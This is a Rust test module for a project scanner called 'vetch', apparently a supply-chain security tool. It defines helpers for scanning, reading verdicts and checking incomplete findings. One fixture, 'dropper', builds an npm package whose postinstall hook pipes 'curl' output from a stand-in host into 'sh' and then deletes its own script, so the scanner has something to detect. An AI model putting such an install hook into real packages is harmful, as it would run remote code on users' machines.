//! `vetch scan` on whole projects.

mod bad_archives;
mod bad_input;
mod bad_registry;
mod code;
mod demo;
mod formats;
#[cfg(unix)]
mod full_disk;
mod history;
mod hostile_names;
mod hostile_project;
#[cfg(target_os = "linux")]
mod interrupted;
mod many_projects;
mod names;
#[cfg(unix)]
mod permissions;
mod python;
mod python_archives;
mod python_locked;
mod python_targets;
mod repeat;
mod sources;
mod tls;
mod verdicts;

use serde_json::Value;
use vetch_testkit::{NpmRegistry, Pkg, Project, ProjectBuilder, Run, Vetch};

use crate::vetch;

/// A scan of the project from inside its folder, without network unless asked for.
fn scan(project: &Project, more: &[&str]) -> Vetch {
    vetch(&["scan"]).args(more.iter().copied()).dir(project.root()).home(project.home())
}

fn offline(project: &Project, more: &[&str]) -> Run {
    scan(project, &["--offline", "--format", "json"]).args(more.iter().copied()).run()
}

fn online(project: &Project, more: &[&str]) -> Run {
    scan(project, &["--format", "json", "--no-history"]).args(more.iter().copied()).run()
}

/// With the project's folder of archives.
fn with_archives(project: &Project) -> Run {
    let archives = project.archives();
    scan(project, &["--offline", "--format", "json", "--archives"]).args([archives]).run()
}

/// A project that takes its packages from this registry, as its user's own settings say.
fn using(registry: &NpmRegistry) -> ProjectBuilder {
    Project::builder("demo").registry(&registry.url()).user_npmrc(&settings(registry))
}

/// Settings of a user of this registry who is not patient.
fn settings(registry: &NpmRegistry) -> String {
    format!("registry={}\nfetch-retries=1\nfetch-retry-mintimeout=1\nfetch-retry-maxtimeout=1\n", registry.url())
}

/// Does nothing anyone could mind.
pub(crate) fn harmless(name: &str) -> Pkg {
    Pkg::new(name, "1.0.0").file("index.js", "module.exports = (a, b) => a + b;\n")
}

/// Fetches and runs something when installed. Inert: the host does not exist.
pub(crate) fn dropper(name: &str) -> Pkg {
    let script = "const { execSync } = require('child_process');\n\
                  execSync('curl -s http://dropper.invalid/x | sh');\n\
                  require('fs').unlinkSync(__filename);\n";
    Pkg::new(name, "1.0.0").script("postinstall", "node setup.js").file("setup.js", script).file("index.js", "\n")
}

/// The verdict on the release of this name, version 1.0.0.
#[track_caller]
fn verdict(run: &Run, name: &str) -> String {
    run.release(&format!("pkg:npm/{name}@1.0.0"))["verdict"].as_str().unwrap().to_owned()
}

/// Ids of the rules that found something in it.
#[track_caller]
fn rules(run: &Run, name: &str) -> Vec<String> {
    let release = run.release(&format!("pkg:npm/{name}@1.0.0"));
    let findings = release["findings"].as_array().unwrap();
    findings.iter().map(|finding| finding["rule"].as_str().unwrap().to_owned()).collect()
}

/// Everything that is incomplete, of releases and of the whole, as `what: why`; each has a hint.
#[track_caller]
fn incomplete(run: &Run) -> Vec<String> {
    let report = run.json();
    let own = report["releases"].as_array().unwrap().iter().flat_map(|release| list(&release["incomplete"]));
    let all = own.chain(list(&report["incomplete"]));
    let text = |missing: &Value| {
        assert!(!missing["hint"].as_str().unwrap().is_empty(), "no next step: {missing}");
        format!("{}: {}", missing["what"].as_str().unwrap(), missing["why"].as_str().unwrap())
    };
    all.map(text).collect()
}

fn list(value: &Value) -> &[Value] {
    value.as_array().map_or(&[], Vec::as_slice)
}

/// Fails unless something incomplete says all of this.
#[track_caller]
fn says(run: &Run, words: &[&str]) {
    let texts = incomplete(run);
    let found = texts.iter().any(|text| words.iter().all(|word| text.contains(word)));
    assert!(found, "nothing says {words:?} in {texts:#?}\n{}", run.stdout);
}
